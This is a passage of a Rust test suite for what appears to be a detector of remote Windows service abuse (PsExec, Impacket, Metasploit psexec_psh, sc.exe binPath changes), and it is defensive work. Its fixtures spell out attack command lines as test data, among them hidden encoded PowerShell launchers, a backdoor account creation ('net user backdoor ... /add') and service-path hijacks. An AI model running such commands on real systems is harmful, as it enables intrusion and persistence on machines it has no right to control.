    let mut started = ev("WS12", 2_500, Channel::System, 7036).done();
    started.fields.service.name = Some("XblAuthManager".into());
    started.fields.service.state = Some("running".into());
    let events = vec![
        ev("WS12", 0, Channel::Security, 4624)
            .logon(0x42, 3, IP, "admin", SID)
            .done(),
        ev("WS12", 500, Channel::Security, 5145)
            .subject(0x42, "admin", SID)
            .share("\\\\*\\IPC$", "svcctl", "%%4416 %%4417", IP)
            .done(),
        image_path_write(
            "WS12",
            2_000,
            "XblAuthManager",
            "C:\\windows\\system32\\cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA",
        ),
        started,
        image_path_write(
            "WS12",
            9_000,
            "XblAuthManager",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
        ),
    ];
    let f = scan("default", events);
    assert_eq!(
        f.iter()
            .filter(|f| f.stages.iter().any(|s| s.stage == Stage::Modify))
            .count(),
        1,
        "the restore is the change's cleanup, not a modification of its own: {f:#?}"
    );
    let f = f
        .iter()
        .find(|f| f.stages.iter().any(|s| s.stage == Stage::Modify))
        .unwrap_or_else(|| panic!("{f:#?}"));
    assert!(
        !f.missing_stages.contains(&Stage::Install),
        "{:?}",
        f.missing_stages
    );
    assert!(
        f.stages
            .iter()
            .any(|s| s.stage == Stage::Cleanup && s.link.contains("restored"))
    );
    assert!(f.stages.iter().any(|s| s.stage == Stage::Exec));
    assert_eq!(f.services[0].name.as_deref(), Some("XblAuthManager"));
    assert!(
        f.severity >= Severity::Medium,
        "{:?} {:?}",
        f.score_breakdown,
        f.stages
            .iter()
            .map(|s| (s.stage, &s.link))
            .collect::<Vec<_>>()
    );
}

/// A pipe flood on distinct logon ids from one source and account: one finding whose evidence
/// is bounded (64 listed per stage, the rest counted), found in one pass over the candidates
/// (each joins the last cluster of its session; it was once compared with every member).
#[test]
fn a_pipe_flood_on_distinct_logon_ids_is_one_bounded_finding() {
    let n: u64 = 20_000;
    let events: Vec<Event> = (0..n)
        .map(|i| {
            ev(
                "SRV02",
                i64::try_from(i).unwrap() * 50,
                Channel::Security,
                5145,
            )
            .subject(0x20_0000 + i, "eve", SID)
            .share(
                "\\\\*\\IPC$",
                &format!("PSEXESVC-ATK-{}-stdin", 1000 + i),
                "%%4416 %%4417",
                IP,
            )
            .done()
        })
        .collect();
    let f = scan("default", events);
    assert_eq!(f.len(), 1, "{}", f.len());
    let pipes = f[0]
        .stages
        .iter()
        .filter(|s| s.stage == Stage::Pipe)
        .count();
    assert!(pipes <= 64, "{pipes}");
    assert_eq!(
        u64::try_from(f[0].stages.len()).unwrap() + f[0].stages_omitted,
        n,
        "every access listed or counted"
    );
}

/// Scores read 0-100 (the parts above 100 are held by a `cap` part) and every breakdown adds up
/// to its score, on the demo, whose full chains add up to more than 100.
#[test]
fn scores_are_0_to_100_and_their_parts_add_up() {
    let case = crate::demo::generate(&crate::demo::DemoOptions::default());
    let f = super::Detector::builtin("default")
        .unwrap()
        .scan(&store(crate::demo::events(&case)), true)
        .0;
    assert!(
        f.iter()
            .any(|f| f.score_breakdown.iter().any(|p| p.name == "cap"))
    );
    for f in &f {
        assert!((0..=100).contains(&f.score), "{} {}", f.id, f.score);
        let sum: i64 = f.score_breakdown.iter().map(|p| p.points).sum();
        assert_eq!(sum, f.score, "{} {:?}", f.id, f.score_breakdown);
        assert!(
            f.score_breakdown
                .iter()
                .all(|p| !p.why.contains("full chain")),
            "{:?}",
            f.score_breakdown
        );
    }
}

/// Telemetry forms (#26): Metasploit `psexec_psh` seen only in Security 4688, in the expanded
/// forms Windows logs (the SCM's cmd.exe, its PowerShell child without `-noni`, the stub's
/// grandchild), gives a finding of at least Medium.
#[test]
fn metasploit_psexec_psh_from_security_4688_only_is_a_finding() {
    let proc_ev = |ms: i64, image: &str, cmd: &str, pid: u32, ppid: u32| {
        let mut e = ev("WS07", ms, Channel::Security, 4688)
            .process(image, cmd, pid, "", ppid)
            .done();
        e.fields.process.parent_image = None;
        e.fields.subject_logon_id = Some(crate::model::LogonId(0x3e7));
        e
    };
    let events = vec![
        proc_ev(
            0,
            "C:\\Windows\\System32\\cmd.exe",
            "C:\\Windows\\system32\\cmd.exe /b /c start /b /min powershell.exe -nop -w hidden -c \"if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo\"",
            0x1a0,
            0x260,
        ),
        proc_ev(
            150,
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "powershell.exe  -nop -w hidden -c \"if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\WindowsPowerShell\\v1.0\\powershell.exe'};$s=New-Object System.Diagnostics.ProcessStartInfo\"",
            0x1b0,
            0x1a0,
        ),
    ];
    let f = scan("default", events);
    let f = f
        .iter()
        .find(|f| !f.is_suppressed())
        .unwrap_or_else(|| panic!("no finding: {f:#?}"));
    assert!(f.severity >= Severity::Medium, "{:?}", f.score_breakdown);
    assert!(
        f.tools.iter().any(|t| t.contains("Metasploit")),
        "{:?}",
        f.tools
    );
}

/// Service control events carry only a name (#26): three start time-outs of Metasploit-style
/// names (16 random mixed-case letters) within minutes are a finding of at least Medium; three
/// of a product's 16-letter CamelCase name (`TrustedInstaller`) are not.
#[test]
fn three_timeouts_of_metasploit_style_names_are_a_finding() {
    let timeout = |ms: i64, name: &str| {
        let mut e = ev("WS08", ms, Channel::System, 7009).done();
        e.fields.service.name = Some(name.into());
        e.fields.service.state = Some("start timeout".into());
        e
    };
    let random = ["qWeRtYuIoPaSdFgH", "ZxCvBnMaSdFgHjKl", "pOiUyTrEwQlKjHgF"];
    let events: Vec<Event> = random
        .iter()
        .enumerate()
        .map(|(k, n)| timeout(i64::try_from(k).unwrap() * 60_000, n))
        .collect();
    let f = scan("default", events);
    assert!(
        f.iter().any(|f| f.severity >= Severity::Medium),
        "{:#?}",
        f.iter()
            .map(|f| (&f.score_breakdown, &f.services))
            .collect::<Vec<_>>()
    );
    let product: Vec<Event> = (0..3)
        .map(|k| timeout(k * 60_000, "TrustedInstaller"))
        .collect();
    assert!(scan("default", product).is_empty());
}

fn source_run(host: &str, ms: i64, image: &str, cmd: &str, pid: u32, parent_pid: u32) -> Event {
    ev(host, ms, Channel::Sysmon, 1)
        .process(
            image,
            cmd,
            pid,
            "C:\\Windows\\System32\\cmd.exe",
            parent_pid,
        )
        .done()
}

/// A loopback target is local use (#26): `wmic /node:"127.0.0.1" process call create` run
/// through cmd.exe is no finding at all (WMI creates no service), nor `psexec \\127.0.0.1`.
#[test]
fn a_loopback_or_wmi_target_is_never_a_remote_service_finding() {
    let events = vec![
        source_run(
            "WS09",
            0,
            "C:\\Windows\\System32\\cmd.exe",
            "cmd.exe /c wmic /user:admin /password:x /node:\"127.0.0.1\" process call create notepad.exe",
            100,
            90,
        ),
        source_run(
            "WS09",
            50,
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "wmic /user:admin /password:x /node:\"127.0.0.1\" process call create notepad.exe",
            101,
            100,
        ),
        source_run(
            "WS09",
            90_000,
            "C:\\Tools\\PsExec.exe",
            "PsExec.exe \\\\127.0.0.1 -s cmd",
            102,
            90,
        ),
        source_run(
            "WS09",
            95_000,
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "wmic /node:SRV7 process call create calc.exe",
            103,
            90,
        ),
    ];
    let f = scan("default", events);
    assert!(f.is_empty(), "{f:#?}");
}

/// `sc.exe \\HOST create NAME binPath= ...` seen on the source only (#26): one Low finding on
/// HOST for the command and the sc.exe it starts, Medium when the binary path is a launcher.
#[test]
fn sc_create_seen_from_the_source_only_is_one_finding_on_the_target() {
    let run = |bin: &str| {
        vec![
            source_run(
                "ADM03",
                0,
                "C:\\Windows\\System32\\cmd.exe",
                &format!("cmd.exe /c sc.exe \\\\LAB09 create upd binPath= {bin}"),
                200,
                190,
            ),
            source_run(
                "ADM03",
                40,
                "C:\\Windows\\System32\\sc.exe",
                &format!("sc.exe  \\\\LAB09 create upd binPath= {bin}"),
                201,
                200,
            ),
        ]
    };
    let f = scan("default", run("virus.exe"));
    let on: Vec<&Finding> = f.iter().filter(|f| f.target_key == "LAB09").collect();
    assert_eq!(
        on.len(),
        1,
        "a command and its child are one action: {f:#?}"
    );
    assert_eq!(on[0].severity, Severity::Low, "{:?}", on[0].score_breakdown);
    assert!(
        on[0]
            .origin
            .reasons
            .iter()
            .any(|r| r.contains("source only"))
    );
    let f = scan(
        "default",
        run("\"cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA\""),
    );
    let on: Vec<&Finding> = f.iter().filter(|f| f.target_key == "LAB09").collect();
    assert_eq!(on.len(), 1, "{f:#?}");
    assert_eq!(
        on[0].severity,
        Severity::Medium,
        "{:?}",
        on[0].score_breakdown
    );
    assert!(on[0].score_breakdown.iter().any(|p| p.name == "launcher"));
}

/// An Impacket psexec chain (remote NTLM logon, helper on ADMIN$, SYSTEM cmd.exe).
fn impacket_chain(host: &str, name: &str, helper: &str) -> Vec<Event> {
    let mut logon = ev(host, 0, Channel::Security, 4624)
        .logon(0x5150, 3, "10.7.7.7", "admin", SID)
        .done();
    logon.fields.logon.auth_package = Some("NTLM".into());
    vec![
        logon,
        ev(host, 200, Channel::Security, 5145)
            .subject(0x5150, "admin", SID)
            .share(
                "\\\\*\\ADMIN$",
                helper.trim_start_matches("%systemroot%\\"),
                "%%4417",
                "10.7.7.7",
            )
            .done(),
        install_4697(host, 400, 0x5150, name, helper),
        scm_child(host, 600, "C:\\Windows\\System32\\cmd.exe", "cmd.exe", 4100),
    ]
}

/// Attacker-shaped evidence (#27): an allow-list entry on a name or path the attacker chose
/// (a built-in `SCCM` name, a path that passes through an allow-listed folder) never hides a
/// remote chain; the finding says which entry matched.
#[test]
fn attacker_chosen_names_and_paths_never_suppress_a_remote_chain() {
    for (name, helper) in [
        ("SCCM", "%systemroot%\\aBcDeFgH.exe"),
        (
            "RtUf",
            "%systemroot%\\AdminArsenal\\PDQ\\..\\..\\xKdLmQpZ.exe",
        ),
        ("RtUf", "C:\\Program Files\\..\\Windows\\xKdLmQpZ.exe"),
    ] {
        let f = scan("default", impacket_chain("SRV3", name, helper));
        let f = f
            .iter()
            .find(|f| f.stages.iter().any(|s| s.stage == Stage::Install))
            .unwrap_or_else(|| panic!("{f:#?}"));
        assert!(!f.is_suppressed(), "{name} {helper}: {:?}", f.suppressed_by);
        assert!(f.severity >= Severity::Medium, "{:?}", f.score_breakdown);
    }
}

/// Remote evidence outranks local claims (#27): a PsExec EULA key written on the target and a
/// process named PsExec64.exe there, right after a remote chain, leave it remote and as severe.
#[test]
fn local_claims_written_on_the_target_never_lower_a_remote_chain() {
    let chain = impacket_chain("SRV4", "RtUf", "%systemroot%\\xKdLmQpZ.exe");
    let before = scan("default", chain.clone());
    let sev = before.iter().map(|f| f.severity).max().unwrap();
    let mut eula = ev("SRV4", 5_400, Channel::Sysmon, 13)
        .process("C:\\Users\\x\\PsExec64.exe", "", 777, "", 1)
        .done();
    eula.fields.registry.event_type = Some("SetValue".into());
    eula.fields.registry.target_object =
        Some("HKU\\S-1-5-18\\Software\\Sysinternals\\PsExec\\EulaAccepted".into());
    eula.fields.registry.details = Some("DWORD (0x00000001)".into());
    let fake = source_run(
        "SRV4",
        30_000,
        "C:\\Users\\Public\\PsExec64.exe",
        "PsExec64.exe \\\\SRV4 -s cmd",
        778,
        1,
    );
    let mut more = chain;
    more.extend([eula, fake]);
    let after = scan("default", more);
    let f = after
        .iter()
        .find(|f| f.stages.iter().any(|s| s.stage == Stage::Install))
        .unwrap_or_else(|| panic!("{after:#?}"));
    assert_eq!(f.origin.kind, OriginKind::Remote, "{:?}", f.origin);
    assert!(f.severity >= sev, "{:?} < {sev:?}", f.severity);
}

/// The exec stage's process points come from the Image (#27): `cmd /c whoami` and
/// `cmd.exe /c whoami` score alike.
#[test]
fn process_points_come_from_the_image_not_the_command_text() {
    let points = |cmd: &str| {
        let mut events = impacket_chain("SRV5", "upd", "%COMSPEC% /c whoami");
        events.pop();
        events.push(scm_child(
            "SRV5",
            600,
            "C:\\Windows\\System32\\cmd.exe",
            cmd,
            4100,
        ));
        let f = scan("default", events);
        let f = f
            .iter()
            .find(|f| f.stages.iter().any(|s| s.stage == Stage::Exec))
            .unwrap();
        f.score_breakdown
            .iter()
            .find(|p| p.name == "process")
            .map(|p| p.points)
    };
    assert_eq!(points("cmd /c whoami"), points("cmd.exe /c whoami"));
}

/// `sc \\HOST config X binPath= ...`, a start, the path put back, after a network logon, where
/// no share access was audited (no 5145): the change is linked to the logon that made it (the
/// only remote session on the host just before) and is at least Medium (#26).
#[test]
fn a_remote_modification_without_share_auditing_is_linked_to_its_logon() {
    let mut started = ev("WS13", 2_500, Channel::System, 7036).done();
    started.fields.service.name = Some("XblAuthManager".into());
    started.fields.service.state = Some("running".into());
    let events = vec![
        ev("WS13", 0, Channel::Security, 4624)
            .logon(0x43, 3, IP, "admin", SID)
            .done(),
        image_path_write(
            "WS13",
            2_000,
            "XblAuthManager",
            "C:\\windows\\system32\\cmd.exe /c net user backdoor P@ss /add",
        ),
        started,
        image_path_write(
            "WS13",
            9_000,
            "XblAuthManager",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p",
        ),
    ];
    let f = scan("default", events);
    let f = f
        .iter()
        .find(|f| f.stages.iter().any(|s| s.stage == Stage::Modify))
        .unwrap_or_else(|| panic!("{f:#?}"));
    assert!(
        f.stages.iter().any(|s| s.stage == Stage::Logon),
        "linked to its logon: {:?}",
        f.stages
            .iter()
            .map(|s| (s.stage, &s.link))
            .collect::<Vec<_>>()
    );
    assert_eq!(f.source_ips, vec![IP.to_string()]);
    assert!(f.severity >= Severity::Medium, "{:?}", f.score_breakdown);
}
